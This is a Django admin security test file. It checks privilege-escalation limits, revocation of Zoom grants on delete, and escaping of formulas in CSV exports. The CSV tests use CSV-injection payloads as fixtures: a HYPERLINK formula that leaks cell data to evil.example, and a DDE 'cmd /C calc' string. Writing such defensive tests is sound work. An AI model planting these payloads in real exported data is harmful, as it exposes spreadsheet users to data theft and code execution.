"""The admin cannot be used to raise one's own rights, to leave grants active at Zoom, or to
plant formulas in a spreadsheet."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission

from accounts.models import User
from integrations.zoom.connection.models import ZoomConnection
from tests.admin.conftest import run_action, staff_client
from tests.factories import RepFactory
from tests.integrations import steps

pytestmark = pytest.mark.django_db


def user_change(client, user, **fields):
    page = client.get(f"/admin/accounts/user/{user.pk}/change/")
    form = page.context["adminform"].form
    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
    data.update(
        {
            "date_joined_0": user.date_joined.strftime("%Y-%m-%d"),
            "date_joined_1": user.date_joined.strftime("%H:%M:%S"),
            **fields,
        }
    )
    data.pop("date_joined", None)
    data.pop("last_login", None)
    return client.post(f"/admin/accounts/user/{user.pk}/change/", data)


def test_staff_who_may_change_reps_cannot_make_themselves_superuser():
    client = staff_client("accounts.change_user", "accounts.view_user")
    me = client.staff
    every = Permission.objects.values_list("pk", flat=True)

    response = user_change(
        client, me, is_superuser="on", is_staff="on", user_permissions=list(every)
    )

    assert response.status_code in (200, 302, 403)
    me.refresh_from_db()
    assert not me.is_superuser
    assert me.user_permissions.count() == 2


def test_staff_cannot_change_or_delete_a_superuser_or_other_staff():
    client = staff_client("accounts.change_user", "accounts.view_user", "accounts.delete_user")
    boss = RepFactory(is_staff=True, is_superuser=True)

    assert client.get(f"/admin/accounts/user/{boss.pk}/password/").status_code == 403
    assert (
        client.post(f"/admin/accounts/user/{boss.pk}/delete/", {"post": "yes"}).status_code == 403
    )
    assert User.objects.filter(pk=boss.pk).exists()


def test_a_superuser_still_grants_staff_rights(superuser_client):
    rep = RepFactory()
    user_change(superuser_client, rep, is_staff="on")
    rep.refresh_from_db()
    assert rep.is_staff


def test_the_roster_csv_neutralises_cells_a_spreadsheet_would_run(superuser_client, sandbox):
    connection = steps.connect_rep(sandbox, "zoom-formula@example.com")
    rep = connection.user
    rep.first_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rep.last_name = "+1"
    rep.save()
    ZoomConnection.objects.filter(pk=connection.pk).update(last_error="@SUM(1+1)*cmd|' /C calc'!A0")

    response = run_action(superuser_client, "export_csv", rep, follow=False)

    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["rep_name"].startswith("'=HYPERLINK")
    assert row["last_error"].startswith("'@SUM")
    assert row["rep_email"] == rep.email


FORMULA_STARTS = ("=", "+", "-", "@")


def cells(text: str, delimiter: str) -> list[str]:
    return [
        cell.strip() for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row
    ]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_roster_csv_is_a_formula_whatever_the_separator(
    superuser_client, sandbox, delimiter
):
    connection = steps.connect_rep(sandbox, "zoom-semicolon@example.com")
    rep = connection.user
    # Read with ";" (the European default) or tab, a value splits at them into new cells.
    rep.first_name = 'Ann;=HYPERLINK("http://evil.example/?"&A1,"click")'
    rep.last_name = "Smith\t+cmd|' /C calc'!A0"
    rep.save()
    ZoomConnection.objects.filter(pk=connection.pk).update(last_error="failed, -2+3; @SUM(1)")

    response = run_action(superuser_client, "export_csv", rep, follow=False)

    shown = cells(response.content.decode(), delimiter)
    assert shown and not [cell for cell in shown if cell.startswith(FORMULA_STARTS)]
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert (
        row["rep_name"]
        == "Ann;'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") Smith\t'+cmd|' /C calc'!A0"
    )


def test_deleting_a_zoom_connection_in_the_admin_revokes_its_grant_first(superuser_client, sandbox):
    connection = steps.connect_rep(sandbox, "zoom-keep@example.com")
    url = f"/admin/zoom/zoomconnection/{connection.pk}/delete/"

    assert superuser_client.post(url, {"post": "yes"}).status_code == 302

    assert not ZoomConnection.objects.filter(pk=connection.pk).exists()
    assert sandbox.token_stats("zoom-keep@example.com")["active_families"] == 0


def test_deleting_a_rep_in_the_admin_revokes_their_zoom_grant_first(superuser_client, sandbox):
    connection = steps.connect_rep(sandbox, "zoom-leaver@example.com")
    assert sandbox.token_stats("zoom-leaver@example.com")["active_families"] == 1

    superuser_client.post(f"/admin/accounts/user/{connection.user.pk}/delete/", {"post": "yes"})

    assert not User.objects.filter(pk=connection.user.pk).exists()
    assert sandbox.token_stats("zoom-leaver@example.com")["active_families"] == 0


def test_a_connect_refused_because_the_zoom_user_is_another_reps_revokes_the_new_grant(sandbox):
    steps.connect_rep(sandbox, "zoom-shared@example.com")
    other = staff_client()

    response = steps.connect(other, sandbox, "zoom-shared@example.com")

    assert response.status_code == 409
    assert sandbox.token_stats("zoom-shared@example.com")["active_families"] == 0
